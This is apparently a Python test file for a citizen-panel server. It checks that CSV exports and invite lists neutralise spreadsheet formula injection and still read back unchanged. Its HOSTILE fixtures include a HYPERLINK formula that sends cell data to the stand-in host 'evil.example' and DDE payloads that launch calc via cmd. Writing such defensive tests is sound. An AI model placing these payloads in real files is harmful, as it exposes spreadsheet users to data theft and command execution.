"""No CSV the server offers holds a cell that a spreadsheet would run as a formula.

Hostile values go in through the normal paths (the organiser's pool file, a phone's
argument, proposals), then every CSV is read the way a spreadsheet reads it: split on
commas, and split on semicolons as Excel does in Norway, where quotes only count at the
start of a cell and a line break ends a row.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from hypothesis import given
from hypothesis import strategies as st

from facilitation.recruitment.synthetic import synthetic_people_csv
from server.ops import agenda, arguments, proposals
from server.ops.events import SYSTEM
from server.web.csv_safe import csv_line, original_cell, safe_cell
from tests.support.day import Day, text_of
from tests.support.deliberation import open_step, stored_arguments
from tests.support.recruitment import (
    confirm_everyone_and_issue_codes,
    start_draw,
    upload_synthetic,
    wait_for_draw,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "+47 40 22 09 22",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Nilsenveien 1;=1+1",
    "Line one\n=1+1",
    '"=1+1"',
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]+)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")


def formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulas.

    Split on commas, a cell may not start with = + - @ tab or CR unless it is a number.
    Split on semicolons, our cells fall apart; no piece may start with = + - @ after
    the quotes and line breaks that the split leaves in front.
    """
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        found += [c for c in row if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in row:
            bare = cell.lstrip('"\t\r\n')
            if bare.startswith(("=", "+", "-", "@")) and not NUMBER.fullmatch(bare):
                found.append(cell)
    return found


def hostile_pool(size: int) -> bytes:
    """The synthetic pool with hostile ids, names, phone numbers and addresses."""
    rows = list(csv.reader(io.StringIO(synthetic_people_csv(size, seed=3).decode())))
    header, people = rows[0], rows[1:]
    name, phone, address = header.index("name"), header.index("phone"), header.index("address")
    for n, person in enumerate(people):
        evil = HOSTILE[n % len(HOSTILE)]
        person[0] = f"{evil} {n}"
        person[name] = evil
        person[address] = f"{evil}, {person[address]}"
        person[phone] = "+47 40220922"
    out = io.StringIO()
    csv.writer(out).writerows([header, *people])
    return out.getvalue().encode()


async def test_invites_and_draw_result_have_no_formulas(day: Day) -> None:
    panel = await day.panel()
    organiser = await day.staff("organiser")
    await upload_synthetic(organiser, panel, pool=60, size=10, people=hostile_pool(60))
    draw = await wait_for_draw(day, await start_draw(organiser, panel, seed=4))
    assert draw.state == "finished", draw.failure
    await confirm_everyone_and_issue_codes(day, organiser, panel)

    base = f"/panels/{panel.id}/recruitment"
    for path in (f"{base}/invites.csv", f"{base}/draws/{draw.id}/result.csv"):
        response = await organiser.get(path)
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        assert "=1+1" in text and "+47" in text, path  # the values are there ...
        assert formulas(text) == [], path  # ... but none would run
    # Numbers stay numbers: every chance in the draw's result is a plain number.
    result = await organiser.get(f"{base}/draws/{draw.id}/result.csv")
    rows = list(csv.DictReader(io.StringIO(result.content.decode("utf-8-sig"))))
    assert rows and all(NUMBER.fullmatch(row["probability"]) for row in rows)


async def test_the_export_has_no_formulas_and_imports_back_the_same_text(day: Day) -> None:
    panel = await day.panel(tables=1)
    proposal_ids = [
        await proposals.add(day.services.units, panel.id, SYSTEM, title, "")
        for title in HOSTILE[:4]
    ]
    phone = await day.phone(panel)
    await open_step(
        day,
        panel,
        "discussion",
        proposals=",".join(map(str, proposal_ids)),
        arguments_per_participant="20",
        arguments_per_table="40",
    )
    for n, text in enumerate(HOSTILE):
        form = {"text": f"{text} (argument)", "stance": "for", "proposal": proposal_ids[n % 4]}
        response = await phone.post(f"/p/{panel.id}/arguments", form)
        assert response.status_code == 200, text_of(response.text)
    for row in await stored_arguments(day, panel):
        await arguments.moderate(day.services.units, panel.id, SYSTEM, row.id, "approve")
    await agenda.transition(day.services.units, panel.id, SYSTEM, "close")
    organiser = await day.staff("organiser")

    export = await organiser.get(f"/panels/{panel.id}/export.zip")
    assert export.status_code == 200
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    sheets = {
        name: data.decode("utf-8-sig") for name, data in files.items() if name.endswith(".csv")
    }
    assert len(sheets) >= 10
    for name, text in sheets.items():
        assert formulas(text) == [], name
    assert "HYPERLINK" in sheets["arguments.csv"] and "cmd|" in sheets["proposals.csv"]
    assert "apostrophe" in files["codebook.md"].decode()

    # Reading the export back gives the texts as they were sent.
    imported = await organiser.http.post(
        "/panels/import",
        data={"csrf_token": organiser.csrf},
        files={"archive": ("export.zip", export.content, "application/zip")},
        headers={"Referer": str(organiser.http.base_url).rstrip("/") + "/panels/import"},
    )
    assert imported.status_code == 303, imported.text
    new_id = int(imported.headers["location"].rsplit("/", 1)[1])
    again = await organiser.get(f"/panels/{new_id}/export.zip")
    with zipfile.ZipFile(io.BytesIO(again.content)) as archive:
        assert archive.read("arguments.csv") == files["arguments.csv"]
        assert archive.read("proposals.csv") == files["proposals.csv"]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,'\"a1. "), max_size=12))
def test_a_cell_reads_back_as_written_and_never_starts_a_formula(value: str) -> None:
    written = safe_cell(value)
    assert original_cell(written) == value
    assert formulas(csv_line(["x", value, value])) == []


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-3, "-3", -0.5, "-0.5", "1e-05", 0)] == [
        "-3",
        "-3",
        "-0.5",
        "-0.5",
        "1e-05",
        "0",
    ]
    assert safe_cell("-3 ") == "'-3 " and safe_cell("-2+3") == "'-2+3"
